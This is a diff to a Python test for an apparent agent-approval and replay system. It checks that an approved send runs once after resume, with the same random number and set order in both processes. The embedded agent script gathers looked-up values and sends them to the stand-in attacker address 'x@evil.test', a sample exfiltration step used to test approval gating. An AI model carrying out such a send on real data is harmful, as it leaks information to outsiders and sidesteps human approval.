@@ -13,11 +13,12 @@ import random
 a = look(1)
 b = look(2)
 r = random.randint(0, 10**9)
+order = ''.join(set('abcdefghijklmnop'))
 try:
-    s = send('x@evil.test', f'{a}-{b}-{r}')
+    s = send('x@evil.test', f'{a}-{b}-{r}-{order}')
 except ApprovalDenied as e:
     s = 'refused: ' + str(e)
-final_answer([s, r])
+final_answer([s, r, order])
 ```"""
 
 
@@ -44,10 +45,11 @@ def test_approve_runs_the_pending_call_once_and_nothing_twice(d: Durable) -> Non
     d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob", "--reason", "fine")
     result = d.process("resume", {"responses": []}, policy, run_id)
     assert result is not None and result["status"] == "done", result
-    sent, r = result["answer"]
-    assert sent.startswith("sent 10-20-") and sent.endswith(f"-{r} to x@evil.test")
+    sent, r, order = result["answer"]
+    assert sent == f"sent 10-20-{r}-{order} to x@evil.test"
     assert [e[0] for e in d.effects()] == ["look", "look", "send"]
-    assert d.effects("send")[0][1]["body"] == f"10-20-{r}"  # the same random number in both processes
+    # The same random number and set order in both processes: the arguments match the approval.
+    assert d.effects("send")[0][1]["body"] == f"10-20-{r}-{order}"
     kinds = d.kinds()
     assert "run_resumed" in kinds and kinds[-1] in ("run_finished", "checkpoint")
     [replayed] = d.records("call_replayed")
